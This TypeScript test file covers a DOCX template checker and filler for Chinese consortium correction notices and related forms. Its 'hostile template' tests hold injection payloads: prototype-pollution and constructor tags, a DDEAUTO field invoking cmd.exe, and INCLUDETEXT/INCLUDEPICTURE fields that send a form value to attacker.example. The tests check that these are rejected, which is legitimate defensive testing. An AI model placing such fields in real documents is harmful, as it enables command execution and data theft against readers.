import {
  byName,
  documentTemplateKind,
  exampleValues,
  type TemplateEntries,
  templateFields,
} from '@consortium/domain';
import { templateIssues } from '@consortium/domain/template-check';
import fc from 'fast-check';
import { strToU8, unzipSync, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { inspectFile } from '../inspect/inspect.ts';
import { printable } from '../printable.ts';
import { docxParts, docxTables, docxText } from '../read/read-back.ts';
import { bodyDocx, field } from '../samples/docx.ts';
import { builtInTemplate } from './built-in.ts';
import { filled, type NamedValues } from './fill.ts';
import { tagsOf } from './read-tags.ts';
import { checkTemplate, fillTemplate, TemplateUnfillable } from './template.ts';

const madeAt = new Date('2026-03-15T02:00:00Z');
const TIMEOUT = 60_000;
const builtIn = new Map(
  await Promise.all(
    documentTemplateKind.terms.map(async (kind) => [kind, await builtInTemplate(kind, madeAt)] as const),
  ),
);
const correction = builtIn.get('CORRECTION') as Uint8Array;
const example = byName(templateFields.CORRECTION, exampleValues(templateFields.CORRECTION)) as NamedValues;

/** A template as somebody edited it. */
function edited(template: Uint8Array, path: string, edit: (xml: string) => string): Uint8Array {
  const parts = unzipSync(template);
  const before = docxParts(template)[path] ?? '';
  const after = edit(before);
  if (after === before) throw new Error(`nothing to edit in ${path}`);
  return zipSync({ ...parts, [path]: strToU8(after) });
}
const BODY = 'word/document.xml';
const body = (from: string, to: string) => edited(correction, BODY, (xml) => xml.replace(from, to));
const run = (text: string) => `<w:r><w:t xml:space="preserve">${text}</w:t></w:r>`;
const paragraph = (text: string) => `<w:p>${run(text)}</w:p>`;
const added = (xml: string) => body('<w:sectPr>', `${xml}<w:sectPr>`);

const issuesOf = async (template: Uint8Array) =>
  templateIssues(templateFields.CORRECTION, await tagsOf(template));
const told = async (template: Uint8Array) =>
  (await issuesOf(template)).map(({ code, tag, place }) => [code, tag, place?.label['zh-CN'] ?? null]);

describe('builtInTemplate', () => {
  it.each(documentTemplateKind.terms)(
    '%s passes the check that a template has to pass, and says all it is given',
    async (kind) => {
      const template = builtIn.get(kind) as Uint8Array;
      expect(
        await inspectFile(template, { expected: ['WORD'], maxBytes: 1e6, maxUnpackedBytes: 1e7 }),
      ).toMatchObject({
        mediaType: expect.stringContaining('wordprocessingml'),
      });
      expect(templateIssues(templateFields[kind], await tagsOf(template))).toEqual([]);
      const entries: TemplateEntries = templateFields[kind];
      const values = byName(entries, exampleValues(entries));
      const paper = await filled(template, values);
      const text = docxText(paper) + docxText(paper, 'word/footer1.xml');
      const used = new Set((await tagsOf(template)).map(({ name }) => name));
      const said = Object.entries(values).flatMap(([name, value]) =>
        typeof value === 'string'
          ? used.has(name)
            ? [value]
            : []
          : value.flatMap((line) =>
              Object.entries(line).flatMap(([of, cell]) => (used.has(of) ? [cell] : [])),
            ),
      );
      expect(said.filter((each) => !text.includes(each))).toEqual([]);
      expect(text).not.toMatch(/[{}]/);
    },
    TIMEOUT,
  );
});

describe('checkTemplate', () => {
  it('passes the built-in one, and names what stands against another', async () => {
    expect(await checkTemplate(correction, 'CORRECTION')).toEqual([]);
    const codes = (await checkTemplate(correction, 'RECEIPT')).map(({ code }) => code);
    expect(codes).toContain('UNKNOWN_FIELD');
    expect(codes).toContain('FIELD_MISSING');
  }, 60_000);

  it('finds a field whose letters Word has cut into runs', async () => {
    const cut = body('{补正期限}', `{补</w:t></w:r>${run('正期').replace('</w:r>', '')}</w:r><w:r><w:t>限}`);
    expect(await issuesOf(cut)).toEqual([]);
    expect(docxText(await filled(cut, example))).toContain('2026年3月27日');
  });

  it('names an unknown field with its nearest, its place and the words around it', async () => {
    const [issue] = await issuesOf(body('{补正期限}', '{补正限期}'));
    expect(issue).toMatchObject({
      code: 'UNKNOWN_FIELD',
      tag: '{补正限期}',
      label: { 'zh-CN': '没有这个字段' },
      place: {
        label: { 'zh-CN': '正文第 3 段', en: 'Body, paragraph 3' },
        around: expect.stringContaining('请于 {补正限期} 前在系统中补正'),
      },
      hint: { 'zh-CN': '是否为“补正期限”?' },
    });
  });

  it.each<[string, Uint8Array, (string | null)[][]]>([
    [
      'a cell',
      body('{补正要求}', '{补正要球}'),
      [
        ['UNKNOWN_FIELD', '{补正要球}', '正文第 1 个表格第 2 行第 3 列'],
        ['FIELD_MISSING', '{补正要求}', null],
      ],
    ],
    [
      'the foot',
      edited(correction, 'word/footer1.xml', (xml) => xml.replace('{核验行}', '{核验}')),
      [
        ['UNKNOWN_FIELD', '{核验}', '页脚第 1 段'],
        ['FIELD_MISSING', '{核验行}', null],
      ],
    ],
    [
      'a text box',
      added(
        `<w:p><w:r><w:pict><v:shape><v:textbox><w:txbxContent>${paragraph('{甲}')}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>`,
      ),
      [['UNKNOWN_FIELD', '{甲}', '正文文本框']],
    ],
    [
      'a field outside of its list',
      added(paragraph('{补正要求}')),
      [['FIELD_OUTSIDE_LIST', '{补正要求}', '正文第 7 段']],
    ],
    [
      'a list that is not ended',
      body('{/补正事项}', ''),
      [['LIST_UNCLOSED', '{#补正事项}', '正文第 1 个表格第 2 行第 1 列']],
    ],
    [
      'a brace over two paragraphs',
      added(paragraph('{申报') + paragraph('编号}')),
      [
        ['TAG_BROKEN', '{', '正文第 7 段'],
        ['TAG_BROKEN', '}', '正文第 8 段'],
      ],
    ],
    [
      'braces around nothing',
      added(paragraph('{ }{#}')),
      [
        ['TAG_BROKEN', '{ }', '正文第 7 段'],
        ['TAG_BROKEN', '{#}', '正文第 7 段'],
      ],
    ],
    [
      'full-width braces',
      added(paragraph('｛申报编号｝')),
      [['FULL_WIDTH_BRACES', '｛申报编号｝', '正文第 7 段']],
    ],
    [
      'options that the library would read',
      added(paragraph('{申报编号 [a: 1]}')),
      [['UNKNOWN_FIELD', '{申报编号 [a: 1]}', '正文第 7 段']],
    ],
    [
      'a list in a content control',
      added(`<w:sdt><w:sdtContent>${paragraph('{#补充说明}甲{/补充说明}')}</w:sdtContent></w:sdt>`),
      [
        ['LIST_IN_CONTROL', '{#补充说明}', '正文第 7 段'],
        ['LIST_IN_CONTROL', '{/补充说明}', '正文第 7 段'],
      ],
    ],
    [
      'the text of a picture',
      added(
        '<w:p><w:r><w:drawing><wp:inline><wp:docPr id="9" name="p" descr="{申报编号}"/></wp:inline></w:drawing></w:r></w:p>',
      ),
      [['NOT_FILLED_HERE', '{申报编号}', '正文第 6 段,图片的替代文字']],
    ],
  ])('tells the place in %s', async (_, template, expected) => {
    expect(await told(template)).toEqual(expected);
  });
});

describe('a hostile template', () => {
  it.each([
    "{constructor.constructor('return process.exit()')()}",
    '{__proto__}',
    '{#__proto__}{/__proto__}',
    '{#constructor}x{/constructor}',
    '{补正事项.0.补正要求}',
    '{toString}',
    '{=1+1}',
    '{%image}',
  ])('asks for %s and is not taken; filled in all the same, it says nothing', async (tag) => {
    const template = added(paragraph(`[[${tag}]]`));
    expect((await issuesOf(template)).map(({ code }) => code)).toContain('UNKNOWN_FIELD');
    expect(docxText(await filled(template, example))).toContain('[[]]');
  });

  it.each([
    ['DDE', field('DDEAUTO c:\\\\windows\\\\cmd.exe')],
    ['INCLUDETEXT', field('INCLUDETEXT "http://attacker.example/{申报编号}"')],
    ['a field cut into runs', field('INCLUDE', 'PICTURE "http://attacker.example/a.png"')],
  ])('with %s is not even taken as a file', async (_, runs) => {
    expect(
      await inspectFile(bodyDocx(runs), { expected: ['WORD'], maxBytes: 1e6, maxUnpackedBytes: 1e7 }),
    ).toMatchObject({
      code: 'FILE_EXTERNAL_REF',
    });
  });

  it('cannot make a field of what somebody typed', async () => {
    const typed = '{申报编号}{/补正事项}{#补正事项}{';
    // The value stands in the row that the list repeats: whoever reads the row once more must find no field in it.
    const values = {
      ...example,
      联合体名称: typed,
      补正事项: [{ 序号: '1', 条款或栏目: typed, 补正要求: typed }],
    };
    const row = body('{#补正事项}', '{联合体名称}{#补正事项}');
    expect(await issuesOf(row)).toEqual([]);
    const paper = await filled(row, values);
    expect(docxTables(paper)[0]?.slice(1)).toEqual([[`${typed}\n1`, typed, typed]]);
  });

  it(
    'ends with its process where it is no document, or nests without end',
    async () => {
      const deep = added(
        `${'<w:sdt><w:sdtContent>'.repeat(20_000)}${paragraph('{申报编号}')}${'</w:sdtContent></w:sdt>'.repeat(20_000)}`,
      );
      expect((await checkTemplate(deep, 'CORRECTION')).map(({ code }) => code)).toEqual(['NOT_FILLABLE']);
      await expect(fillTemplate(strToU8('no document'), {})).rejects.toThrow(TemplateUnfillable);
    },
    TIMEOUT,
  );
});

describe('fillTemplate', () => {
  it('leaves out an optional paragraph with what stands around it', async () => {
    const notice = builtIn.get('PUBLIC_NOTICE') as Uint8Array;
    const values = byName(templateFields.PUBLIC_NOTICE, exampleValues(templateFields.PUBLIC_NOTICE));
    expect(docxText(await filled(notice, values))).toContain('受理异议：示例科');
    expect(docxText(await filled(notice, { ...values, 异议联系方式: '' }))).not.toContain('受理异议');
  });

  it('prints the heading and the table of reasons only where there are any', async () => {
    const sheet = builtIn.get('CHECK_SHEET') as Uint8Array;
    const values = byName(templateFields.CHECK_SHEET, exampleValues(templateFields.CHECK_SHEET));
    const [some, none] = [
      await filled(sheet, values),
      await filled(sheet, { ...values, 有不满足说明: '', 不满足说明: [] }),
    ];
    const heads = (paper: Uint8Array) => docxTables(paper).map(([head]) => head?.join());
    const reasons = '条款,说明,批准情况';
    expect(docxText(some)).toContain('三、不满足原则性条款的说明');
    expect(docxText(none)).not.toContain('三、');
    expect(heads(some).filter((head) => head === reasons)).toHaveLength(1);
    expect(heads(none)).toEqual(heads(some).filter((head) => head !== reasons));
    const { 'word/document.xml': xml = '' } = docxParts(none);
    expect(xml).not.toMatch(/<w:pStyle w:val="Heading\d"\/><\/w:pPr><\/w:p>/);
    expect(xml).not.toMatch(/<w:tbl>(?:(?!<w:tr[ >]|<w:tbl>).)*<\/w:tbl>/);
  });

  it(
    'keeps any text as it was typed',
    async () => {
      const naughty = fc.oneof(
        fc.string({ unit: 'binary' }),
        fc.constantFrom(
          '{',
          '}',
          '{#补正事项}',
          '$&',
          '#',
          '\\',
          '<w:p/>',
          '&amp;',
          ']]>',
          '\u200F右至左',
          '𠮷𡨴𫠠',
          '一\n二',
          '',
        ),
      );
      await fc.assert(
        fc.asyncProperty(naughty, fc.array(naughty, { minLength: 1, maxLength: 4 }), async (name, items) => {
          const lines = items.map((what, at) => ({ 序号: `${at}`, 条款或栏目: '', 补正要求: what }));
          const paper = await filled(correction, { ...example, 联合体名称: name, 补正事项: lines });
          const shown = (text: string) => printable(text).replaceAll('\n', '');
          expect(docxText(paper)).toContain(`“${shown(name)}”`);
          expect(
            docxTables(paper)[0]
              ?.slice(1)
              .map((row) => row[2]?.replaceAll('\n', '')),
          ).toEqual(items.map(shown));
        }),
        { numRuns: 60 },
      );
    },
    TIMEOUT,
  );
});
